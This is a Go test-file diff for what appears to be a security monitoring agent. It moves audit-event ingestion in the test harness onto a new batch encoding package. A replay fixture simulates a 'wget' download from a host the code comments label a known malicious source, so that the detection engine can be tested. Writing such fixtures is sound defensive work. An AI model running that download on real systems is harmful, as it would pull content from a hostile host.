@@ -12,6 +12,7 @@ import (
 	"time"
 
 	"github.com/bulkheadhq/bulkhead/agent/activity"
+	"github.com/bulkheadhq/bulkhead/agent/batch"
 	"github.com/bulkheadhq/bulkhead/agent/linuxaudit"
 	"github.com/bulkheadhq/bulkhead/agent/replay"
 	"github.com/bulkheadhq/bulkhead/internal/arm"
@@ -83,15 +84,10 @@ func newPlane(t *testing.T) *plane {
 	})
 	p.s = New(Deps{
 		Store: st, Clock: clk, Log: log, Resources: p.control, Outbox: box, Intel: detect.ShippedIndicators(),
-		Decode: func(packed []byte) (events []activity.Event, err error) { return events, json.Unmarshal(packed, &events) },
 	})
 	nothing := func(context.Context, *arm.Call) error { return nil }
 	machines := arm.Type{Name: "Microsoft.HybridCompute/machines", Versions: []string{"2024-07-10"}, Put: nothing}
-	locations := arm.Type{ // another part of the namespace
-		Name: "Microsoft.Security/locations", Versions: []string{"2015-06-01-preview"}, Scope: arm.InSubscription, Put: nothing,
-		Get: func(context.Context, *arm.Call) (*arm.Resource, error) { return nil, nil },
-	}
-	if err := p.control.Register(append(p.s.Types(), machines, locations)...); err != nil {
+	if err := p.control.Register(append(p.s.Types(), machines)...); err != nil {
 		t.Fatal(err)
 	}
 	handlers := p.control.OutboxHandlers()
@@ -130,36 +126,34 @@ func (p *plane) ingest(machine string, seq uint64, write func(l *replay.Log)) {
 	log := &replay.Log{Now: p.clock.Now().Add(-6 * time.Hour), Host: "db1"}
 	write(log)
 	var n activity.Normalizer
-	var events []json.RawMessage
+	var all batch.Batch
 	r := linuxaudit.NewReassembler(func(e *linuxaudit.Event) {
-		event := *n.Audit(e)
-		event.Source = nil
-		b, err := json.Marshal(event)
+		packed, err := batch.Encode(&batch.Batch{Events: []activity.Event{*n.Audit(e)}}) // what the source lent is copied
 		if err != nil {
 			p.t.Fatal(err)
 		}
-		events = append(events, b)
+		one, err := batch.Decode(packed)
+		if err != nil {
+			p.t.Fatal(err)
+		}
+		all.Events = append(all.Events, one.Events...)
 	})
 	for line := range strings.Lines(log.Audit()) {
 		r.Line([]byte(line))
 	}
 	r.Flush()
-	packed, err := json.Marshal(events)
+	packed, err := batch.Encode(&all)
 	if err != nil {
 		p.t.Fatal(err)
 	}
-	var batch []activity.Event
-	if err := json.Unmarshal(packed, &batch); err != nil {
-		p.t.Fatal(err)
-	}
-	if _, err := p.s.Engine().Ingest(p.t.Context(), machine, seq, batch, packed); err != nil {
+	if _, err := p.s.Engine().Ingest(p.t.Context(), machine, seq, nil, packed); err != nil {
 		p.t.Fatal(err)
 	}
 }
 
 // fetch is one download from a known malicious source.
 func fetch(l *replay.Log) {
-	l.Exec(replay.Process{PID: 2031, Parent: 2001, AUID: 1000, UID: 1000, Session: 7, TTY: "pts0", Dir: "/home/ops"}, "/usr/bin/wget", []string{"wget", "http://nasapaul.com/speed"})
+	l.Exec(replay.Process{PID: 2031, Parent: 2001, AUID: 1000, UID: 1000, Session: 7, TTY: "pts0", Dir: "/srv/ops"}, "/usr/bin/wget", []string{"wget", "http://nasapaul.com/speed"})
 }
 
 func (p *plane) do(who, method, path, body string) (int, http.Header, map[string]any) {
